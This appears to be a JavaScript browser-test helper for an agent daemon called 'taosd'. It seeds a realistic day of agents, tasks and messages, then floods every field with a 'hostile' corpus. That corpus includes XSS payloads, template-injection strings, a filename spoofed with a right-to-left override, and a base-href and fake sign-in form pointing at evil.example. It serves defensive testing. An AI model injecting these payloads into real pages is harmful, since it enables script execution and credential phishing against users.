// A daemon of its own for the browser tests, and what people see on a good day.
import { strict as assert } from "node:assert";
import { spawn } from "node:child_process";
import fs from "node:fs";
import net from "node:net";

const freePort = () => new Promise((done) => {
  const server = net.createServer().listen(0, "127.0.0.1", () => {
    const { port } = server.address();
    server.close(() => done(port));
  });
});

export const startBox = async (taosd, work) => {
  const port = await freePort();
  const url = `http://127.0.0.1:${port}`;
  let daemon;
  const start = () => new Promise((done, fail) => {
    const log = fs.openSync(`${work}/log`, "a");
    daemon = spawn(taosd, ["--data-dir", `${work}/d`, "--listen", `127.0.0.1:${port}`, "--containers", "none"], {
      stdio: ["ignore", "pipe", log],
      env: { ...process.env, TAOSD_REQUESTS_PER_MINUTE: "0" },
    });
    daemon.once("exit", () => fail(new Error(fs.readFileSync(`${work}/log`, "utf8").slice(-2000))));
    daemon.stdout.once("data", done);
  });
  const stop = () => new Promise((done) => {
    daemon.removeAllListeners("exit");
    daemon.once("exit", done);
    daemon.kill("SIGTERM");
  });
  process.on("exit", () => daemon?.kill("SIGKILL"));
  await start();
  const token = fs.readFileSync(`${work}/d/operator.token`, "utf8").trim();
  const api = async (method, path, body, as = token) => {
    const reply = await fetch(url + path, {
      method,
      headers: { Authorization: `Bearer ${as}`, ...(body && { "Content-Type": "application/json" }) },
      body: body && JSON.stringify(body),
    });
    const text = await reply.text();
    assert(reply.ok, `${method} ${path}: ${reply.status} ${text}`);
    return text && reply.headers.get("content-type")?.includes("json") ? JSON.parse(text) : text;
  };
  const rss = () => Number(/VmRSS:\s+(\d+)/.exec(fs.readFileSync(`/proc/${daemon.pid}/status`, "utf8"))[1]);
  return { url, token, api, rss, start, stop };
};

// Agents, messages, tasks and a request, as on an evening of a small household. The agents' tokens.
export const goodDay = async ({ api }) => {
  for (const [name, model] of [["Atlas", "qwen3-8b"], ["Hermes", "llama-3.3-70b"], ["Research helper", "qwen3-8b"], ["Nightwatch", null]]) {
    await api("POST", "/api/agents", { name, ...(model && { model }) });
  }
  const tokens = {};
  for (const name of ["atlas", "hermes"]) tokens[name] = (await api("POST", `/api/agents/${name}/token/issue`, {})).token;
  await api("POST", "/api/ui/notify", { title: "Nightly report is ready", body: "12 sources read, 3 findings. The full text is in the context.", action_url: "https://example.org/report" }, tokens.atlas);
  await api("POST", "/api/ui/notify", { title: "The mail queue is stuck", body: "14 messages wait for the relay: connection refused", priority: "high" }, tokens.hermes);
  await api("POST", "/api/v1/messages", { content: "@hermes please write the mail about the three findings of tonight." });
  await api("POST", "/api/v1/messages", { content: "On it. One question: do we name the vendor?" }, tokens.hermes);
  await api("POST", "/api/v1/messages", { content: "@hermes yes, they have confirmed in writing: see the context, vendor/letter." }, tokens.atlas);
  await api("POST", "/api/v1/context", { key: "vendor/letter", value: "We confirm the delivery on 3 December." });
  const hermes = (await api("GET", "/api/agents/hermes")).id;
  for (const [title, priority, status, assignee_id] of [["Write the mail about the findings", "high", "in_progress", hermes], ["Renew the certificate of the relay", "urgent"], ["Index the archive of 2024", "low"], ["Answer the vendor", "medium", "done"], ["Move the old logs", "medium", "blocked"], ["Translate the guide", "low"]]) {
    const task = await api("POST", "/api/v1/tasks", { title, priority, ...(assignee_id && { assignee_id }) });
    if (status) await api("PATCH", `/api/v1/tasks/${task.id}`, { status });
  }
  await api("POST", "/api/users", { username: "ann", display_name: "Ann Perkins" });
  await api("POST", "/api/users/ann/tokens", { label: "laptop", expires_in_days: 5 });
  await api("POST", "/api/agents/nightwatch/freeze", { reason: "It asked strangers for money" });
  await api("POST", "/api/backups?wait=30", {});
  await api("POST", "/api/requests", { kind: "scope", reason: "The report has to go to the team tonight.", scope: ["agents.logs"], duration_seconds: 7200 }, tokens.atlas);
  return tokens;
};

// What a hostile agent writes wherever it can.
export const corpus = [
  "<script>window.pwned = 1</script>", "\"><img src=x onerror='window.pwned = 1'>", "'><svg onload=window.pwned=1>",
  "</title></textarea></pre></script><h1 class=pwned>x</h1>", "<style>*{display:none}</style>", "<base href=//evil.example>",
  "<a href=javascript:window.pwned=1>x</a>", "{{7*7}} {% raw %} ${7*7}", "\u202etxt.exe \u2066x\u2069", "<details open ontoggle=window.pwned=1>",
  "a".repeat(60), "<iframe srcdoc='<script>parent.pwned=1</script>'>", "<form action=//evil.example><button>Sign in</button></form>",
];

export const hostileDay = async ({ api, url, token }, tokens) => {
  for (const [at, text] of corpus.entries()) {
    const made = await api("POST", "/api/agents", { name: `z${at} ${text}`.slice(0, 60), host: text, emoji: text.slice(0, 8) });
    await api("PATCH", `/api/agents/${made.name}/persona`, { soul_md: text, agent_md: text });
    await api("POST", "/api/ui/notify", { title: text.slice(0, 110), body: `${text}\n${"x".repeat(60000)}`, priority: "high" }, tokens.hermes);
    await api("POST", "/api/v1/messages", { content: `${text} ${"w".repeat(2000)}` }, tokens.hermes);
    await api("POST", "/api/v1/context", { key: `k/${at}/${text.replace(/[^\x20-\x7e]/g, "")}`.slice(0, 120), value: text.repeat(50) }, tokens.hermes);
    await api("POST", "/api/v1/tasks", { title: text.slice(0, 150), description: text }, tokens.hermes);
    await api("POST", `/api/agents/${made.name}/freeze`, { reason: text });
    if (at < 5) await api("POST", "/api/requests", { kind: "confirm", reason: text, question: `${text} ${"q".repeat(1500)}`, options: [text.slice(0, 60), "No"] }, tokens.atlas);
    const form = new FormData();
    form.set("file", new Blob([text], { type: "text/plain" }), `${text}.txt`);
    const sent = await fetch(`${url}/api/v1/uploads`, { method: "POST", headers: { Authorization: `Bearer ${token}` }, body: form });
    assert.equal(sent.status, 201, await sent.text());
  }
  const line = "y".repeat(60000);
  await api("PUT", "/api/knowledge/sources/app:evil", { items: corpus.map((text, at) => ({ path: `p${at}`, title: text.slice(0, 100), content: `${text.repeat(20)}\n${line}` })) });
  await api("POST", "/api/users", { username: "evil", display_name: corpus[1].slice(0, 64) });
  await api("POST", "/api/users/evil/tokens", { label: corpus[0], expires_in_days: 5 });
};
